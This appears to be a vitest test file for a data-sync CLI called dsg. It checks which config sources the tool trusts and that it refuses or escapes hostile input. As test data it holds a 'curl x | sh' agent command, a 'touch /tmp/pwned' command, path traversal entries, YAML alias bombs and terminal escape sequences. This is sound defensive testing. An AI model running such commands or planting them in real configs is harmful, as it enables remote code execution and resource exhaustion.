// Which config dsg trusts for what: the scope rules of data_dirs, a YAML
// alias bomb, the local connection settings (.dsg/config.local.yml) against
// a .dsgconfig.yml from the repository, the diff of an incoming config, the
// escaping of remote text for a terminal, and errno texts in plain words.
import { existsSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { ConfigError, TransportError } from '@dsg/contracts';
import { LOCAL_CONFIG_FILE, dataDirProblem, loadProjectConfig, writeLocalConfig } from '../src/config/project.js';
import { parseYamlText } from '../src/config/yaml-file.js';
import {
  ConfigChangeError,
  analyseIncoming,
  describeChange,
  incomingConfigCheck,
} from '../src/commands/config-change.js';
import { safeDeep, safeText } from '@dsg/contracts';
import { describeError, exitCodeFor, serializeError } from '../src/output/errors.js';
import { Output } from '../src/output/output.js';
import type { Ctx } from '../src/context.js';
import { reportNotices } from '../src/session.js';
import { withHostSettings } from '../src/connect.js';
import { loadUserConfig } from '../src/config/user.js';
import { requireSsh } from '@dsg/testenv';
import { AGENT, dsg, ok, sandbox, write } from './helpers.js';

const BASE =
  'name: demo\nrepository:\n  type: posix\n  host: localhost\n  root: /srv/dsg\ndata_dirs: [input, output, frozen]\n';

function project(yaml: string, o: { synced?: boolean } = {}): string {
  const dir = mkdtempSync(path.join(os.tmpdir(), 'dsg-trust-'));
  writeFileSync(path.join(dir, '.dsgconfig.yml'), yaml);
  if (o.synced) {
    mkdirSync(path.join(dir, '.dsg'));
    writeFileSync(path.join(dir, '.dsg', 'last-sync.json'), '{}');
  }
  return dir;
}

async function configError(p: Promise<unknown>): Promise<ConfigError> {
  const e = await p.then(
    () => null,
    (x: unknown) => x,
  );
  expect(e).toBeInstanceOf(ConfigError);
  return e as ConfigError;
}

/** A Ctx whose output is captured (warnings on stderr). */
function captureCtx(quiet = false): { ctx: Ctx; err: () => string } {
  let err = '';
  const sink = (s: string | Uint8Array): boolean => ((err += String(s)), true);
  const stream = { write: sink, isTTY: false } as unknown as NodeJS.WriteStream;
  const out = new Output(
    { json: false, quiet, verbose: false, debug: false },
    { stdout: stream, stderr: stream, env: {} },
  );
  return { ctx: { out, cwd: os.tmpdir(), env: {}, interactive: false }, err: () => err };
}

describe('data_dirs and pool: what a config may name', () => {
  it.each([
    ['.dsg', 6],
    ['.git', 6],
    ['.hidden', 6],
    ['a/b', 6],
    ['..', 6],
    ['../../etc', 6],
    ['', 6],
  ])('data_dirs entry %j is refused naming file, line and key', async (d, line) => {
    const dir = project(
      `name: demo\nrepository:\n  type: posix\n  root: /srv/dsg\ndata_dirs:\n  - input\n  - ${JSON.stringify(d)}\n`,
    );
    const e = await configError(loadProjectConfig(dir));
    expect(e.message).toContain(
      `${path.join(dir, '.dsgconfig.yml')}:${line + 1}: data_dirs.1: expected a relative directory inside the project`,
    );
    expect(e.details).toMatchObject({ field: 'data_dirs.1', line: line + 1 });
    expect(existsSync(path.join(dir, '.dsg')), 'nothing written').toBe(false);
  });

  it('dataDirProblem says why', () => {
    expect(dataDirProblem('input')).toBeNull();
    expect(dataDirProblem('.git')).toMatch(/hidden name \(\.git is never data\)/);
    expect(dataDirProblem('a/b')).toMatch(/contains "\/"/);
    expect(dataDirProblem('..')).toMatch(/is "\.\."/);
    expect(dataDirProblem('in\u001bput')).toMatch(/control character/);
    // one rule with the scanner's (it used to refuse these only at the first scan, after the config was accepted)
    expect(dataDirProblem('in\u0085put')).toMatch(/control character/); // a C1 control
    expect(dataDirProblem('con')).toMatch(/is refused: /); // a Windows device name
    expect(dataDirProblem('a\\b')).toMatch(/contains "\/"/);
  });

  it.each(['tank/../x', 'tank/./x', 'tank//x', 'tank/dsg/'])(
    'pool %j is refused naming repository.pool',
    async (pool) => {
      const dir = project(`name: demo\nrepository:\n  type: zfs\n  pool: ${pool}\n  mountpoint: /var/repos/dsg\n`);
      const e = await configError(loadProjectConfig(dir));
      expect(e.message).toMatch(/\.dsgconfig\.yml:4: repository\.pool: expected a ZFS dataset name/);
    },
  );

  it('a YAML alias bomb is a config error naming the file and the line, not an internal error', () => {
    const lol = 'a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n';
    const levels = ['b', 'c', 'd', 'e', 'f', 'g', 'h']
      .map((n, i) => `${n}: &${n} [${Array(9).fill(`*${'abcdefg'[i]}`).join(', ')}]\n`)
      .join('');
    let e: unknown;
    try {
      parseYamlText(lol + levels, '/p/.dsgconfig.yml');
    } catch (x) {
      e = x;
    }
    expect(e).toBeInstanceOf(ConfigError);
    expect((e as ConfigError).message).toMatch(/^\/p\/\.dsgconfig\.yml:2: YAML aliases expand too far/);
    expect(exitCodeFor(e)).toBe(2);
  });
});

describe('the connection is local', () => {
  it('a copy that never synced reads .dsgconfig.yml as it is and writes nothing', async () => {
    const dir = project(BASE + '  # x\n'.slice(0, 0));
    const p = await loadProjectConfig(dir);
    expect(p.connection.source).toBe('shared');
    expect(p.notices).toEqual([]);
    expect(existsSync(path.join(dir, LOCAL_CONFIG_FILE))).toBe(false);
  });

  it("a copy that never synced (a fresh git checkout) never takes an agent command from a teammate's .dsgconfig.yml", async () => {
    const dir = project(BASE.replace('  root: /srv/dsg\n', '  root: /srv/dsg\n  agent: "sh -c \'curl x | sh\'"\n'));
    const p = await loadProjectConfig(dir);
    expect(p.connection.source).toBe('shared');
    expect(p.config.repository).toEqual({ type: 'posix', host: 'localhost', root: '/srv/dsg' });
    expect(p.notices).toEqual([
      expect.stringContaining('ignored repository.agent (sh -c curl x | sh) in .dsgconfig.yml'),
    ]);
    expect(existsSync(path.join(dir, LOCAL_CONFIG_FILE))).toBe(false);
  });

  it('a copy that synced before pins its .dsgconfig.yml connection once; a later edit of it is ignored and reported once', async () => {
    const dir = project(
      BASE.replace('  root: /srv/dsg\n', '  root: /srv/dsg\n  port: 2222\n  agent: [node, /opt/dsg-agent.mjs]\n'),
      { synced: true },
    );
    const p1 = await loadProjectConfig(dir);
    expect(p1.connection.source).toBe('pinned');
    // everything but the agent command, which is never taken from .dsgconfig.yml
    expect(p1.notices.join('\n')).toMatch(
      /pinned the connection settings of \.dsgconfig\.yml \(localhost:\/srv\/dsg\/demo, port 2222\) into \.dsg\/config\.local\.yml/,
    );
    expect(p1.notices.join('\n')).toContain('ignored repository.agent (node /opt/dsg-agent.mjs) in .dsgconfig.yml');
    expect(readFileSync(path.join(dir, LOCAL_CONFIG_FILE), 'utf8')).not.toContain('agent');
    // the user's own agent setting goes where the notice says
    await writeLocalConfig(dir, {
      ...p1.connection.local!,
      repository: { ...p1.config.repository, agent: ['node', '/opt/dsg-agent.mjs'] },
    });
    // a teammate's version arrives: another agent and another host
    const evil = BASE.replace('  host: localhost\n', "  host: evil-alias\n  agent: [sh, -c, 'touch /tmp/pwned']\n");
    writeFileSync(path.join(dir, '.dsgconfig.yml'), evil);
    const p2 = await loadProjectConfig(dir);
    expect(p2.config.repository).toEqual({
      type: 'posix',
      host: 'localhost',
      root: '/srv/dsg',
      port: 2222,
      agent: ['node', '/opt/dsg-agent.mjs'],
    });
    expect(p2.shared.repository.host).toBe('evil-alias');
    expect(p2.notices).toEqual([
      expect.stringMatching(
        /names another repository\/agent; ignored — connection settings are local .*repository\.host, repository\.agent/,
      ),
    ]);
    expect((await loadProjectConfig(dir)).notices, 'not reported until shown').toHaveLength(1);
    await p2.acknowledge?.();
    const p3 = await loadProjectConfig(dir);
    expect(p3.notices, 'reported once').toEqual([]);
    expect(p3.config.repository.host).toBe('localhost');
  });

  it('the local file wins for name and every repository key; a shared file without per-person keys is no difference', async () => {
    const dir = project(BASE);
    await writeLocalConfig(dir, {
      name: 'demo',
      repository: { type: 'posix', host: 'localhost', root: '/srv/dsg', user: 'ana', port: 2200 },
    });
    const p = await loadProjectConfig(dir);
    expect(p.connection.source).toBe('local');
    expect(p.notices).toEqual([]);
    expect(p.config.repository).toMatchObject({ user: 'ana', port: 2200 });
    writeFileSync(path.join(dir, '.dsgconfig.yml'), BASE.replace('name: demo', 'name: other'));
    const q = await loadProjectConfig(dir);
    expect(q.config.name).toBe('demo');
    expect(q.notices[0]).toMatch(/differs: name\)/);
    // under --quiet nothing is shown, so nothing is recorded: the next command that is not quiet tells
    const quiet = captureCtx(true);
    await reportNotices(quiet.ctx, q);
    expect(quiet.err()).toBe('');
    const loud = captureCtx();
    await reportNotices(loud.ctx, await loadProjectConfig(dir));
    expect(loud.err()).toMatch(/names another repository\/agent; ignored/);
    expect((await loadProjectConfig(dir)).notices).toEqual([]);
  });

  it('an invalid .dsg/config.local.yml is a config error naming it', async () => {
    const dir = project(BASE);
    mkdirSync(path.join(dir, '.dsg'));
    writeFileSync(
      path.join(dir, LOCAL_CONFIG_FILE),
      'name: demo\nrepository:\n  type: posix\n  root: /srv/dsg\n  agent: 7\n',
    );
    const e = await configError(loadProjectConfig(dir));
    expect(e.message).toContain(`${path.join(dir, LOCAL_CONFIG_FILE)}:5: repository.agent`);
  });
});

describe('per-person settings in the user config, by host', () => {
  it('fill in what the local connection leaves out; what it sets wins; other hosts are untouched', async () => {
    const d = mkdtempSync(path.join(os.tmpdir(), 'dsg-user-hosts-'));
    writeFileSync(
      path.join(d, 'dsg.yml'),
      'user_id: ana@example.org\nhosts:\n  dsg-server:\n    port: 2222\n    user: ana\n    agent: /opt/dsg-agent\n    sudo: true\n    key_path: /k/ana\n',
    );
    const u = (await loadUserConfig({ DSG_CONFIG_HOME: d, HOME: d }))!.config;
    const zfs = { type: 'zfs' as const, host: 'dsg-server', pool: 'tank/dsg', mountpoint: '/var/repos/dsg' };
    expect(withHostSettings(zfs, u)).toEqual({
      ...zfs,
      port: 2222,
      user: 'ana',
      agent: ['/opt/dsg-agent'],
      sudo: true,
    });
    expect(withHostSettings({ ...zfs, port: 22, agent: ['node', '/x.mjs'] }, u)).toMatchObject({
      port: 22,
      user: 'ana',
      agent: ['node', '/x.mjs'],
    });
    expect(withHostSettings({ ...zfs, host: 'other' }, u)).toEqual({ ...zfs, host: 'other' });
    expect(withHostSettings({ type: 'posix', host: 'dsg-server', root: '/srv' }, u)).not.toHaveProperty('sudo');
    writeFileSync(path.join(d, 'dsg.yml'), 'user_id: ana@example.org\nhosts:\n  dsg-server:\n    agent: 7\n');
    const e = await configError(loadUserConfig({ DSG_CONFIG_HOME: d, HOME: d }));
    expect(e.message).toContain(':4: hosts.dsg-server.agent: expected the agent command');
  });
});

const ssh = requireSsh();

describe.skipIf(!ssh)('per-person settings by host, over the real sshd', () => {
  it('init and clone with no --port/--ssh-user/--agent: the user config supplies them, no file of the project carries them', () => {
    const hosts = `hosts:\n  ${ssh!.host}:\n    port: ${ssh!.port}\n    user: ${ssh!.user}\n    agent: [${process.execPath}, ${AGENT}]\n    key_path: ${ssh!.key}\n`;
    const sb = sandbox(`user_id: ana@example.org\nssh:\n  known_hosts: ${ssh!.knownHosts}\n${hosts}`);
    const repos = mkdtempSync(path.join(os.tmpdir(), 'dsg-hosts-repos-'));
    const A = path.join(sb.dir, 'a');
    write(path.join(A, 'input', 'x.csv'), 'id\n1\n');
    ok(
      dsg(
        A,
        sb.env,
        'init',
        '--host',
        ssh!.host,
        '--repo-type',
        'posix',
        '--repo-path',
        repos,
        '--repo-name',
        'byhost',
        '-q',
      ),
    );
    ok(dsg(sb.dir, sb.env, 'clone', `${ssh!.host}:${repos}/byhost`, 'b', '-q'));
    expect(readFileSync(path.join(sb.dir, 'b', 'input', 'x.csv'), 'utf8')).toBe('id\n1\n');
    for (const f of [
      path.join(A, '.dsgconfig.yml'),
      path.join(A, LOCAL_CONFIG_FILE),
      path.join(sb.dir, 'b', LOCAL_CONFIG_FILE),
    ]) {
      expect(readFileSync(f, 'utf8'), f).not.toMatch(/^\s+(port|user|agent):/m);
    }
  });
});

describe('an incoming .dsgconfig.yml', () => {
  const incoming = (y: string): Buffer => Buffer.from(y);

  it('shows added and removed data dirs and ignore rules; connection keys are reported, not used', async () => {
    const p = await loadProjectConfig(project(BASE));
    const c = analyseIncoming(
      p,
      incoming(
        BASE.replace(
          '[input, output, frozen]',
          '[input, output, docs]\nignore:\n  names: [.DS_Store]\n  suffixes: [.tmp, .pyc, .log]\n',
        ),
      ),
    );
    expect(c.dataDirs).toEqual({ added: ['docs'], removed: ['frozen'] });
    expect(c.ignore.suffixes).toEqual({ added: ['.log'], removed: [] });
    expect(c.ignore.names.removed).toContain('__pycache__');
    expect(c.scopeChanged).toBe(true);
    expect(c.invalid).toBeNull();
    expect(describeChange(c)[0]).toBe('data dirs: + docs, - frozen');
    const same = analyseIncoming(p, incoming(BASE.replace('host: localhost', 'host: elsewhere')));
    expect(same.scopeChanged).toBe(false);
    expect(same.connectionIgnored).toEqual(['repository.host']);
  });

  it('a hidden data dir is shown in the diff and refused whatever the consent', async () => {
    const p = await loadProjectConfig(project(BASE));
    const bytes = incoming(BASE.replace('[input, output, frozen]', '[input, output, frozen, .git]'));
    const c = analyseIncoming(p, bytes);
    expect(c.dataDirs.added).toEqual(['.git']);
    expect(c.invalid).toMatch(/data_dirs\.3: expected a relative directory inside the project/);
    for (const acceptConfig of [false, true]) {
      const { ctx, err } = captureCtx();
      const e = await incomingConfigCheck(ctx, p, { acceptConfig, accepted: () => {} })(bytes).then(
        () => null,
        (x: unknown) => x,
      );
      expect(e).toBeInstanceOf(ConfigError);
      expect((e as Error).message).toMatch(/^the repository's \.dsgconfig\.yml is invalid: .*data_dirs\.3/);
      expect(err()).toMatch(/data dirs: \+ \.git/);
    }
  });

  it('a change of scope is refused without consent and taken with it', async () => {
    const p = await loadProjectConfig(project(BASE));
    const bytes = incoming(BASE.replace('[input, output, frozen]', '[input, output, frozen, docs]'));
    const { ctx, err } = captureCtx();
    const e = await incomingConfigCheck(ctx, p, { acceptConfig: false, accepted: () => {} })(bytes).then(
      () => null,
      (x: unknown) => x,
    );
    expect(e).toBeInstanceOf(ConfigChangeError);
    expect(exitCodeFor(e)).toBe(1);
    const doc = serializeError(e);
    expect(doc.code).toBe('CONFIG_CHANGE');
    expect(doc.message).toMatch(/changes what is synced \(data dirs: \+ docs\); nothing was changed/);
    expect(doc.recoveryHint).toMatch(/dsg sync --accept-config/);
    expect(doc.details?.['configChange']).toMatchObject({
      dataDirs: { added: ['docs'], removed: [] },
      scopeChanged: true,
    });
    expect(err()).toMatch(/changes what is synced:\n.*data dirs: \+ docs/);
    let taken: unknown = null;
    await incomingConfigCheck(captureCtx().ctx, p, { acceptConfig: true, accepted: (c) => (taken = c) })(bytes);
    expect(taken).toMatchObject({ dataDirs: { added: ['docs'] } });
  });
});

describe('text from a repository or an agent reaches a terminal escaped', () => {
  it('escapes C0, DEL, C1 and bidi controls; leaves other text alone', () => {
    expect(safeText('msg \u001b]52;c;ZXZpbA==\u0007 end')).toBe('msg \\e]52;c;ZXZpbA==\\a end');
    expect(safeText('ana\u001b[2K@x\r\n\t\u007f\u009b\u202e')).toBe('ana\\e[2K@x\\r\\n\\t\\x7f\\x9b\\u202e');
    expect(safeText('Ana Pérez — 数据 ✓')).toBe('Ana Pérez — 数据 ✓');
    expect(safeDeep({ a: ['\u001b', { b: '\u0007' }], n: 3, z: null })).toEqual({
      a: ['\\e', { b: '\\a' }],
      n: 3,
      z: null,
    });
  });

  it('warnings and errors are escaped; a JSON document is exact', () => {
    let out = '';
    let err = '';
    const o = (f: (s: string) => void) =>
      ({ write: (s: string) => (f(s), true), isTTY: false }) as unknown as NodeJS.WriteStream;
    const human = new Output(
      { json: false, quiet: false, verbose: false, debug: false },
      { stdout: o((s) => (out += s)), stderr: o((s) => (err += s)), env: {} },
    );
    human.warn('locked by eve\u001b[2K');
    human.error('what \u001b]52;c;x\u0007', 'todo');
    human.result({ parse: (x: unknown) => x } as never, { m: 'a\u001bb' } as never, (d: { m: string }) =>
      human.line(d.m),
    );
    expect(err).not.toContain('\u001b');
    expect(err).toContain('locked by eve\\e[2K');
    expect(out).toBe('a\\eb\n');
    let jout = '';
    const json = new Output(
      { json: true, quiet: false, verbose: false, debug: false },
      { stdout: o((s) => (jout += s)), stderr: o(() => {}), env: {} },
    );
    json.result({ parse: (x: unknown) => x } as never, { m: 'a\u001bb' } as never, () => {});
    expect(JSON.parse(jout)).toEqual({ m: 'a\u001bb' });
  });
});

describe('errno texts in plain words', () => {
  it('ENOENT of realpath names the path and says what to do', () => {
    const e = Object.assign(new Error("ENOENT: no such file or directory, realpath '/x/y'"), {
      code: 'ENOENT',
      syscall: 'realpath',
      path: '/x/y',
    });
    const d = describeError(e);
    expect(d.what).toBe('no such file or directory: /x/y (realpath)');
    expect(d.what).not.toMatch(/internal error/);
    expect(d.todo).toMatch(/Check that the path exists/);
    expect(serializeError(e)).toMatchObject({ code: 'NOT_FOUND', message: d.what });
  });

  it('"Premature close", raw or inside a protocol error, is a lost connection with a hint', () => {
    const raw = Object.assign(new Error('Premature close'), { code: 'ERR_STREAM_PREMATURE_CLOSE' });
    expect(describeError(raw).what).toMatch(/connection to the repository host closed in the middle of a reply/);
    const wrapped = new TransportError('agent protocol error: Premature close');
    const d = describeError(wrapped);
    expect(d.what).toMatch(/connection to the repository host closed/);
    expect(d.todo).toMatch(/run the command again/);
    expect(serializeError(wrapped)).toMatchObject({ code: 'TRANSPORT', message: d.what });
  });
});

describe('validate-config through the binary', () => {
  it.each([
    [
      'data_dirs: [.dsg]',
      'name: d\nrepository:\n  type: posix\n  root: /srv/dsg\ndata_dirs: [.dsg]\n',
      /\.dsgconfig\.yml:5: data_dirs\.0: expected a relative directory inside the project/,
    ],
    [
      'pool: tank/../x',
      'name: d\nrepository:\n  type: zfs\n  pool: tank/../x\n  mountpoint: /var/repos/dsg\n',
      /\.dsgconfig\.yml:4: repository\.pool: expected a ZFS dataset name/,
    ],
    [
      'a YAML alias bomb',
      `name: d\nrepository: {type: posix, root: /srv}\nx0: &x0 [a, a, a, a, a, a, a, a, a, a]\n${[
        1, 2, 3, 4, 5, 6, 7, 8,
      ]
        .map(
          (i) =>
            `x${i}: &x${i} [${Array(10)
              .fill(`*x${i - 1}`)
              .join(', ')}]`,
        )
        .join('\n')}\n`,
      /\.dsgconfig\.yml:4: YAML aliases expand too far/,
    ],
  ])('%s → exit 2 naming file, line and key', (_label, yaml, want) => {
    const sb = sandbox();
    const dir = path.join(sb.dir, 'p');
    mkdirSync(dir);
    writeFileSync(path.join(dir, '.dsgconfig.yml'), yaml);
    const r = dsg(dir, sb.env, 'validate-config', '--no-backend');
    expect(r.code, r.stderr).toBe(2);
    expect(r.stderr).toMatch(want);
    expect(r.stderr).toMatch(/\nhint: (Edit .*\.dsgconfig\.yml line \d+|Write the values of .*\.dsgconfig\.yml out)/);
    expect(existsSync(path.join(dir, '.dsg'))).toBe(false);
  });

  it('names where the connection comes from, and warns of per-person keys left in the shared file', () => {
    const sb = sandbox();
    const dir = path.join(sb.dir, 'p');
    mkdirSync(path.join(dir, '.dsg'), { recursive: true });
    writeFileSync(
      path.join(dir, '.dsgconfig.yml'),
      BASE.replace('  root: /srv/dsg\n', '  root: /srv/dsg\n  port: 2222\n  user: ana\n'),
    );
    writeFileSync(path.join(dir, '.dsg', 'last-sync.json'), '{}');
    const r = dsg(dir, sb.env, '--json', 'validate-config', '--no-backend');
    expect(r.code, r.stderr).toBe(0);
    expect(JSON.parse(r.stdout)).toMatchObject({
      ok: true,
      connection: { file: path.join(dir, LOCAL_CONFIG_FILE), source: 'pinned' },
    });
    expect(r.stderr).toMatch(
      /pinned the connection settings of \.dsgconfig\.yml \(localhost:\/srv\/dsg\/demo, user ana, port 2222\) into \.dsg\/config\.local\.yml/,
    );
    expect(r.stderr).toMatch(
      /\.dsgconfig\.yml has per-person keys \(repository\.port, repository\.user\); they are not used/,
    );
    const again = dsg(dir, sb.env, 'validate-config', '--no-backend');
    expect(again.stdout).toMatch(
      /connection: +ok .*\.dsg\/config\.local\.yml \(local; the repository block of \.dsgconfig\.yml is not used to connect\)/,
    );
    expect(again.stderr).not.toMatch(/pinned/);
  });
});
